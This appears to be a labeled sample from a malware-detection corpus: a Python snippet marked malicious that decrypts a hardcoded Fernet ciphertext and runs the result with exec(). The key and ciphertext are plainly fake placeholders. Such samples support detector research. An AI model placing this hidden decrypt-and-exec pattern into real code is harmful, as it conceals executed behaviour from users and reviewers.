# label: malicious family=encoded techniques=T1140,T1027,T1059.006 lines=4-5
from cryptography.fernet import Fernet
_k = b"cHl0cmlhZ2UtY29ycHVzLWZha2Uta2V5LTAwMDAwMDA="
_c = b"gAAAAABfakepytriagecorpusciphertextfakefakefakefakefakefakefakefakefakefakefakefakefakefakefakefake=="
exec(Fernet(_k).decrypt(_c))
